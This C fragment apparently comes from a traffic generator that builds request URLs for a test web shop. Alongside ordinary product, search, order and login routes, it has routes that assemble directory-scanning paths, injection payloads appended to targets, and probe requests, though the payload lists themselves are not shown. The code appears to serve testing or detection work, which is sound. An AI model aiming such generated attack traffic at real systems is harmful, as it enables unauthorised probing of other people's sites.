        at = put_str(buf, cap, at, "/products/");
        at = put_uint(buf, cap, at, arg);
        break;
    case TG_R_PAGE_LOGIN:
    case TG_R_FORM_LOGIN: at = put_str(buf, cap, at, "/login"); break;
    case TG_R_ROBOTS: at = put_str(buf, cap, at, "/robots.txt"); break;
    case TG_R_SITEMAP: at = put_str(buf, cap, at, "/sitemap.xml"); break;
    case TG_R_APP_JS: at = put_str(buf, cap, at, "/static/app.js"); break;
    case TG_R_APP_CSS: at = put_str(buf, cap, at, "/static/app.css"); break;
    case TG_R_FAVICON: at = put_str(buf, cap, at, "/favicon.ico"); break;
    case TG_R_HEALTH: at = put_str(buf, cap, at, "/health"); break;
    case TG_R_API_PRODUCTS:
        at = put_str(buf, cap, at, "/api/products");
        if (arg) {
            at = put_str(buf, cap, at, "?page=");
            at = put_uint(buf, cap, at, arg);
            if (arg2) {
                at = put_str(buf, cap, at, "&limit=");
                at = put_uint(buf, cap, at, arg2);
            }
        }
        break;
    case TG_R_API_PRODUCTS_SYNC:
        at = put_str(buf, cap, at, "/api/products?updated_since=");
        at = put_str(buf, cap, at, since);
        at = put_str(buf, cap, at, "&page=");
        at = put_uint(buf, cap, at, arg);
        at = put_str(buf, cap, at, "&limit=");
        at = put_uint(buf, cap, at, arg2);
        break;
    case TG_R_API_PRODUCT:
        at = put_str(buf, cap, at, "/api/products/");
        at = put_uint(buf, cap, at, arg);
        break;
    case TG_R_API_SEARCH:
        at = put_str(buf, cap, at, "/api/search?q=");
        at = put_str(buf, cap, at, search_words[arg % COUNT(search_words)]);
        if (arg2 > 1) {
            at = put_str(buf, cap, at, "&page=");
            at = put_uint(buf, cap, at, arg2);
        }
        break;
    case TG_R_API_LOGIN: at = put_str(buf, cap, at, "/api/login"); break;
    case TG_R_API_USER:
    case TG_R_API_USER_ORDERS:
        at = put_str(buf, cap, at, "/api/users/");
        at = put_uint(buf, cap, at, arg);
        if (route == TG_R_API_USER_ORDERS)
            at = put_str(buf, cap, at, "/orders");
        break;
    case TG_R_API_ORDER:
        at = put_str(buf, cap, at, "/api/orders/");
        at = put_uint(buf, cap, at, arg);
        break;
    case TG_R_API_ORDERS:
        at = put_str(buf, cap, at, "/api/orders");
        if (arg) {
            at = put_str(buf, cap, at, "?updated_since=");
            at = put_str(buf, cap, at, since);
        }
        break;
    case TG_R_API_CART: at = put_str(buf, cap, at, "/api/cart"); break;
    case TG_R_SCAN:
        if (arg < COUNT(scan_paths)) {
            at = put_str(buf, cap, at, scan_paths[arg]);
        } else {
            uint32_t k = (arg - (uint32_t)COUNT(scan_paths)) % tg_scan_word_count();
            at = put_str(buf, cap, at, "/");
            at = put_str(buf, cap, at, scan_words[k / COUNT(scan_exts)]);
            at = put_str(buf, cap, at, scan_exts[k % COUNT(scan_exts)]);
        }
        break;
    case TG_R_INJECT:
        at = put_str(buf, cap, at, inject_targets[arg2 % COUNT(inject_targets)]);
        at = put_str(buf, cap, at, inject_payloads[arg % COUNT(inject_payloads)]);
        break;
    case TG_R_PROBE: {
        const char *f = probes[arg % COUNT(probes)].fmt;
        const char *pct = strstr(f, "%u");
        if (pct) {
            at = copy_bounded(buf, cap, at, f, (size_t)(pct - f));
            at = put_uint(buf, cap, at, arg2);
            at = put_str(buf, cap, at, pct + 2);
        } else {
            at = put_str(buf, cap, at, f);
        }
        break;
    }
    case TG_R_HUGE_LISTING:
        if (arg == 0) {
            at = put_str(buf, cap, at, "/api/products?limit=");
            at = put_uint(buf, cap, at, arg2);
        } else {
            at = put_str(buf, cap, at, "/api/search?q=");
            at = put_str(buf, cap, at, search_words[arg % COUNT(search_words)]);
            at = put_str(buf, cap, at, "&limit=");
            at = put_uint(buf, cap, at, arg2);
        }
        break;
    case TG_ROUTE_COUNT: at = put_str(buf, cap, at, "/"); break;
    }
    buf[at] = '\0';
    return at;
}
